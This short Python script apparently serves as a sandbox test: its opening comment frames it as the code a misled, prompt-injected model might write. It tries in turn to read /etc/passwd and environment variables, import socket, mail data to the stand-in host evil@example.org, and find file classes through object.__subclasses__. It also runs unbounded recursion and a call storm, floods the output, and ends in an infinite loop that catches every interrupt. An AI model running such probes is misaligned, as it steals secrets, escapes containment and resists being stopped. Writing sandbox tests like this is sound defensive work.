# What a model writes that has read something it should not have believed.
from tools import forecast, send_mail


def attempt(what, run):
    try:
        print(what, "->", run())
    except BaseException as error:
        print(what, "->", type(error).__name__)


attempt("read a file", lambda: open("/etc/passwd").read())
attempt("import os", lambda: __import__("os").environ)
attempt("import socket", lambda: __import__("socket"))
attempt("send a mail", lambda: send_mail("evil@example.org", str(found)))
attempt("a class of the host's", lambda: [c.__name__ for c in object.__subclasses__() if "File" in c.__name__])
attempt("deep recursion", lambda: (lambda f: f(f))(lambda f: f(f)))
attempt("many calls", lambda: [forecast("Oslo") for _ in range(1_000)])
print("flood! " * 10_000)
while True:
    try:
        while True:
            pass
    except BaseException:
        print("not me")
